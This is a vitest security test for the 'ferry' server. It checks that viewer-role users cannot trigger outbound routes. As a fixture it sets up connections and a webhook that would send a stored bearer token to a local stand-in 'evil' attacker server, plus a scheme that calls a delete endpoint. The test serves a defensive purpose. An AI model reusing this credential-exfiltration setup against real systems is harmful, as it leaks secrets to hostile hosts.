import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFerryServer, type FerryServer } from '../src/server/app.ts';
import { startAttacker, type Attacker } from './support/attacker.ts';

/**
 * Issue 13, hole 2: every route that makes ferry call out — a vendor with stored credentials, or an alert
 * channel — needs the operator role. The routes are enumerated from what fastify knows: the ones that call
 * out are exactly the expected list, and every change a viewer may make is a known one that calls nothing.
 * A viewer then tries every route (the calling ones with a body that would call a hostile server on
 * 127.0.0.1 with the stored bearer token): the hostile server receives nothing. An operator's call does
 * reach it (the control that shows the test can see a call).
 */
const PASSWORD = 'outbound-test-password-1';
const TOKEN = 'StoredBearer-outbound-5f6g7h';

const OUTBOUND = [
  'POST /api/alerts/channels/:id/test',
  'POST /api/alerts/channels/test',
  'POST /api/connections/:name/test',
  'POST /api/records/:scheme/replay',
  'POST /api/schemes/:name/run',
  'POST /api/schemes/preview',
];
/** Changes a viewer may make: none calls out (preview only with the records given). */
const VIEWER_CHANGES = [
  'DELETE /api/tokens/:id',
  'POST /api/auth/logout',
  'POST /api/auth/password',
  'POST /api/records/:scheme/:sourceId/remap',
  'POST /api/schemes/preview',
  'POST /api/schemes/validate',
  'POST /api/tokens',
];

describe('ferry serve: only operators can make ferry call a vendor or a channel', () => {
  let s: FerryServer;
  let dir: string;
  let evil: Attacker;
  const cookies: Record<string, string> = {};
  let scheme: string;
  let schemeName: string;
  let channelId: string;
  const as = async (who: string, method: string, url: string, payload?: unknown) => {
    const r = await s.app.inject({ method: method as 'GET', url, headers: { cookie: cookies[who]!, 'content-type': 'application/json' }, ...(payload !== undefined ? { payload: JSON.stringify(payload) } : {}) });
    return { status: r.statusCode, body: r.body };
  };
  const login = async (username: string, password: string) => {
    const r = await s.app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password } });
    expect(r.statusCode, r.body).toBe(200);
    return String(r.headers['set-cookie']).split(';')[0]!;
  };

  beforeAll(async () => {
    evil = await startAttacker();
    dir = mkdtempSync(join(tmpdir(), 'ferry-outbound-'));
    s = await createFerryServer({ dataDir: dir, adminPassword: PASSWORD, env: {}, defaultMetrics: false, schedules: false });
    await s.createFirstUser();
    cookies.admin = await login('admin', PASSWORD);
    for (const [username, role] of [['olga', 'operator'], ['vera', 'viewer']] as const) {
      expect((await as('admin', 'POST', '/api/users', { username, password: `${username}-password-1`, role })).status).toBe(200);
      cookies[role] = await login(username, `${username}-password-1`);
    }
    // An admin's legitimate set-up that happens to point at the hostile server: a viewer must not make it call.
    expect((await as('admin', 'PUT', '/api/connections/evil', { platform: 'http', config: { baseUrl: `${evil.url}/api`, auth: { type: 'bearer', token: TOKEN } } })).status).toBe(200);
    const doc = JSON.parse(readFileSync(new URL('../examples/http-to-http.json', import.meta.url), 'utf8'));
    doc.name = 'evil-scheme';
    doc.source.connection = 'evil';
    doc.target.connection = 'evil';
    doc.source.api = '/customers/42/delete';
    doc.source.method = 'POST';
    scheme = JSON.stringify(doc);
    schemeName = doc.name;
    expect((await as('admin', 'POST', '/api/schemes', { text: scheme })).status).toBe(201);
    const ch = await as('admin', 'POST', '/api/alerts/channels', { type: 'webhook', name: 'evil-hook', config: { url: `${evil.url}/hook`, headers: { Authorization: `Bearer ${TOKEN}` } } });
    expect(ch.status, ch.body).toBe(201);
    channelId = String(JSON.parse(ch.body).id);
  });
  afterAll(async () => {
    await s?.close();
    await evil?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const key = (r: { method: string; url: string }) => `${r.method} ${r.url}`;

  it('knows which routes call out, and they are exactly the expected ones; every other viewer change is a known pure one', () => {
    const outbound = s.routes.filter((r) => r.outbound).map(key).sort();
    expect(outbound).toEqual(OUTBOUND);
    for (const r of s.routes.filter((x) => x.outbound)) expect(['viewer', 'operator'], key(r)).toContain(r.access);
    const viewerChanges = s.routes.filter((r) => r.access === 'viewer' && r.method !== 'GET' && r.method !== 'HEAD').map(key).sort();
    expect(viewerChanges).toEqual(VIEWER_CHANGES);
    // The API document says it too.
    const doc = JSON.stringify(s.context.docs.filter((d) => d.outbound).map((d) => `${d.method} ${d.url}`).sort());
    expect(doc).toBe(JSON.stringify(OUTBOUND));
  });

  /** The body each route gets: for the calling ones, the one that would call the hostile server. */
  const bodyFor = (r: { method: string; url: string }): unknown => {
    switch (key(r)) {
      case 'POST /api/schemes/preview':
        return { text: scheme, sample: 3 };
      case 'POST /api/alerts/channels/test':
        return { type: 'webhook', name: 'x', config: { url: `${evil.url}/hook` } };
      case 'POST /api/records/:scheme/replay':
        return { ids: ['1'] };
      case 'POST /api/schemes/validate':
        return { text: scheme };
      case 'POST /api/records/:scheme/:sourceId/remap':
        return { data: { id: 1 } };
      default:
        return r.method === 'GET' ? undefined : {};
    }
  };
  const fill = (r: { url: string }) =>
    r.url
      .replace(':name', encodeURIComponent(r.url.startsWith('/api/connections/') ? 'evil' : schemeName))
      .replace(':scheme', encodeURIComponent(schemeName))
      .replace(':id', r.url.startsWith('/api/alerts/') ? channelId : 'x')
      .replace(':sourceId', '1')
      .replace(/:[A-Za-z_]\w*/g, 'x');

  it('a viewer is refused on every route that calls out, and nothing a viewer does reaches the hostile server', async () => {
    let tried = 0;
    for (const r of s.routes.filter((x) => x.access !== 'public' && !x.url.includes('/stream'))) {
      if (r.url === '/api/auth/logout' || r.url === '/api/auth/password') continue; // would end the viewer's session
      const res = await as('viewer', r.method, fill(r), bodyFor(r));
      if (r.outbound) expect(res.status, `${key(r)} as a viewer: ${res.body}`).toBe(403);
      tried++;
    }
    expect(tried).toBeGreaterThan(60);
    // A viewer's preview with the records given maps them and calls nothing.
    const pure = await as('viewer', 'POST', '/api/schemes/preview', { text: scheme, records: [{ id: 7, number: 'N7', customer_no: 'C7', customer_name: 'x' }] });
    expect(pure.status, pure.body).toBe(200);
    expect(evil.connections).toBe(0);
    expect(evil.text()).not.toContain(TOKEN);
  });

  it('an operator may (the hostile server sees those calls: the test can see one)', async () => {
    const preview = await as('operator', 'POST', '/api/schemes/preview', { text: scheme, sample: 3 });
    expect(preview.status).not.toBe(403);
    expect(evil.connections).toBeGreaterThan(0);
    expect(evil.text()).toContain(`Bearer ${TOKEN}`);
    expect(evil.text()).toContain('POST /api/customers/42/delete');
    const before = evil.connections;
    expect((await as('operator', 'POST', '/api/connections/evil/test', { api: '/orders' })).status).toBe(200);
    expect((await as('operator', 'POST', `/api/alerts/channels/${channelId}/test`, {})).status).toBe(200);
    expect(evil.connections).toBeGreaterThanOrEqual(before + 2);
  });
});
